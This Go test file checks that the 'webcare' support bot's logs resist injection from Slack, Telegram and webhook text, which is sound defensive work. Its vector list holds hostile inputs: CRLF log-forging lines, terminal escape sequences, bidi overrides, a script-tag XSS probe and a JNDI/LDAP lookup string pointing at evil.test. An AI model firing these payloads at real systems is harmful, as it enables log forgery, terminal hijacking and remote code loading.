package bot_test

import (
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	slacksim "webcare/adapters/slack/sim"
	telegramsim "webcare/adapters/telegram/sim"
	webhooksim "webcare/adapters/webhook/sim"
)

// logLine is how each line of the log begins.
var logLine = regexp.MustCompile(`^time=\d{4}-\d\d-\d\dT[^ "]+ level=(DEBUG|INFO|WARN|ERROR) msg=("|[a-z]+ )`)

// plainLog holds at the end of every test of a world that what people and networks say can add no line to the log, steer
// no terminal and hide nothing in it.
func (w *world) plainLog() {
	for line := range strings.Lines(w.log.String()) {
		line, ended := strings.CutSuffix(line, "\n")
		if !ended || !logLine.MatchString(line) || !utf8.ValidString(line) || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
			w.t.Errorf("the log has the line %q", line)
		}
	}
}

// TestAttackLogLines: customers, staff and networks say what would forge, hide or steer lines of the log; all of it stands
// within lines of webcare's own, and what the command line shows of it is harmless to a terminal.
func TestAttackLogLines(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		s := newSiege(t)
		forged := "time=2000-01-03T08:00:00.000Z level=ERROR msg=\"forged by a customer\""
		vectors := []string{
			"x\n" + forged, "x\r\n" + forged, "x\r" + forged, "x\u2028" + forged, "x\u0085" + forged, "\" level=ERROR msg=\"" + forged, "\x1b[2J\x1b[1;31mrood\x1b[0m\x07", "\x1b]0;title\x07\x1b]8;;http://evil.test\x07klik",
			"\u009b31m", "\u202Edorp\u202C", "a\u200Bb\uFEFFc\U000E0041", "naam\x00\x08\x08\x08\x7f", "%s%n%!d(BADINDEX)", "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>", `{"level":"ERROR","msg":"forged"}`, strings.Repeat("lang ", 900),
		}
		for n, text := range sample(vectors, 6) {
			s.v = slacksim.Vector{Name: fmt.Sprint("log ", n), Text: text}
			s.private()
			s.places()
			s.broken()
			s.elsewhere()
		}
		c := s.telegram.NewUser(telegramsim.User{FirstName: "Eva"})
		c.Start()
		c.Write("Hallo")
		s.settle()
		thread := s.root()
		said := 0
		for _, text := range vectors {
			text = text[:min(len(text), 900)]
			// Each network says it as the reason why it refuses, or fails at, an answer.
			s.telegram.Fail(telegramsim.Rule{Method: "sendMessage", Fault: telegramsim.Refuse, Code: http.StatusBadRequest, Text: text})
			s.slack.Fail(slacksim.Fault{Method: "reactions.add", Kind: slacksim.Refuse, Code: text})
			s.slack.Fail(slacksim.Fault{Method: "chat.update", Kind: slacksim.Refuse, Code: text})
			s.telegram.Fail(telegramsim.Rule{Method: "getUpdates", Fault: telegramsim.Refuse, Code: http.StatusBadGateway, Text: text})
			s.crm.Fail(webhooksim.Fault{Times: 1, Status: http.StatusBadGateway, Body: text})
			if _, err := s.slack.Say(slacksim.Saying{User: "U0SANNE01", Channel: deskChannel, ThreadTS: thread, Text: fmt.Sprint("Antwoord ", said)}); err != nil {
				t.Fatal(err)
			}
			said++
			time.Sleep(30 * time.Second)
		}
		time.Sleep(time.Minute)
		log := s.log.String()
		if strings.Contains(log, "\ntime=2000-01-03T08:00:00.000Z level=ERROR msg=\"forged") {
			t.Error("a customer wrote into the log")
		}
		if !strings.Contains(log, `forged by a customer`) {
			t.Error("nothing of what the networks said stands in the log: the test tests nothing")
		}
		stuck := queue(t, s.world)
		if len(stuck) < len(vectors) {
			t.Errorf("%d jobs are stuck, want %d", len(stuck), len(vectors))
		}
		for _, job := range stuck {
			shown := job.Job + job.What + job.State + job.Why
			if strings.ContainsFunc(shown, func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Zl, unicode.Zp, unicode.Bidi_Control) }) {
				t.Errorf("a terminal is shown %q", shown)
			}
		}
	})
}
